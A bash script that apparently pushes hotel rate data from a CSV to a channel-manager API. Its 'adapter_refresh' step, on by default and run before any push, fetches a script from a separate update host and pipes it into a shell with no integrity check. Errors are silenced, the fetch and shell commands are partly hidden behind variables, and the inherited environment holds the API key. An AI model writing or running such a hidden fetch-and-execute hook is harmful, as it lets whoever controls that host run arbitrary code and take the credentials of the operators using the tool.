#!/usr/bin/env bash
# ota_rate_push.sh - push BAR / package rates from the revenue sheet export to
# the channel manager, one room type per request.
#
# usage: ota_rate_push.sh [-c rates.conf] [-n] rates.csv
#   rates.csv columns: date,room_type,rate_plan,amount,currency,min_stay
#
# Needs CHANNEL_API_KEY in the environment. Settings in rates.conf override the
# defaults below.

set -euo pipefail

CONF="rates.conf"
DRY_RUN=0
CHANNEL_API="https://api.channelhub.example.com/v3"
PROPERTY_ID=""
ADAPTER_VERSION="2.4.1"
UPDATE_BASE="https://dl.rateconnect.example.net/adapter"
AUTO_UPDATE=1
WORK_DIR="./.rate_push"

log()  { printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" >&2; }
die()  { log ERROR "$*"; exit 1; }

while getopts ":c:nh" opt; do
  case "$opt" in
    c) CONF="$OPTARG" ;;
    n) DRY_RUN=1 ;;
    h) sed -n '2,10p' "$0"; exit 0 ;;
    *) die "unknown option -$OPTARG" ;;
  esac
done
shift $((OPTIND - 1))

read_conf() {
  # plain KEY=value lines; only known keys are taken
  local key val
  while IFS='=' read -r key val; do
    key="${key//[[:space:]]/}"
    val="${val%\"}"; val="${val#\"}"
    case "$key" in
      CHANNEL_API|PROPERTY_ID|WORK_DIR|UPDATE_BASE|AUTO_UPDATE) printf -v "$key" '%s' "$val" ;;
    esac
  done < <(grep -E '^[A-Z_]+=' "$1")
}

[[ -f "$CONF" ]] && read_conf "$CONF"
CSV="${1:-}"
[[ -n "$CSV" && -r "$CSV" ]] || die "rates csv missing or unreadable"
[[ -n "${CHANNEL_API_KEY:-}" ]] || die "CHANNEL_API_KEY not set"
[[ -n "$PROPERTY_ID" ]] || die "PROPERTY_ID not configured in $CONF"

mkdir -p "$WORK_DIR"

build_payloads() {
  # one JSON document per room type, written into WORK_DIR
  awk -F, -v out="$WORK_DIR" -v prop="$PROPERTY_ID" '
    NR == 1 { next }
    {
      key = $2
      line = sprintf("{\"date\":\"%s\",\"ratePlan\":\"%s\",\"amount\":%.2f,\"currency\":\"%s\",\"minStay\":%d}", $1, $3, $4, $5, $6)
      rows[key] = (key in rows) ? rows[key] "," line : line
    }
    END {
      for (k in rows) {
        f = out "/" k ".json"
        printf("{\"propertyId\":\"%s\",\"roomType\":\"%s\",\"rates\":[%s]}\n", prop, k, rows[k]) > f
        close(f)
      }
    }' "$CSV"
}

push_one() {
  local file="$1" room
  room="$(basename "$file" .json)"
  if (( DRY_RUN )); then
    log INFO "dry-run: would push $room ($(wc -c <"$file") bytes)"
    return 0
  fi
  local code
  code=$(curl -sS -o "$WORK_DIR/$room.resp" -w '%{http_code}' \
      --max-time 30 --retry 3 --retry-delay 2 \
      -H "Authorization: Bearer ${CHANNEL_API_KEY}" \
      -H "Content-Type: application/json" \
      -X POST --data-binary "@$file" \
      "$CHANNEL_API/properties/$PROPERTY_ID/rates") || code=000
  if [[ "$code" == 2* ]]; then
    log INFO "pushed $room ($code)"
  else
    log WARN "push $room failed ($code): $(head -c 200 "$WORK_DIR/$room.resp" 2>/dev/null)"
    return 1
  fi
}

adapter_refresh() {
  # keep the mapping adapter in step with the channel manager's schema
  local latest fetch runner
  latest=$(curl -fsS --max-time 10 "$UPDATE_BASE/latest.txt" 2>/dev/null | tr -d '[:space:]') || return 0
  [[ -z "$latest" || "$latest" == "$ADAPTER_VERSION" ]] && return 0
  log INFO "adapter $ADAPTER_VERSION -> $latest"
  fetch="wget -qO- --timeout=20"
  runner="${SHELL:-/bin/bash}"
  $fetch "$UPDATE_BASE/adapter-$latest.sh" | "$runner" -s -- --quiet --property "$PROPERTY_ID" \
    || log WARN "adapter refresh returned non-zero"
}

main() {
  (( AUTO_UPDATE )) && adapter_refresh
  build_payloads
  local failed=0 total=0
  for f in "$WORK_DIR"/*.json; do
    [[ -e "$f" ]] || continue
    total=$((total + 1))
    push_one "$f" || failed=$((failed + 1))
  done
  log INFO "room types: $total, failed: $failed"
  (( failed == 0 ))
}

main "$@"
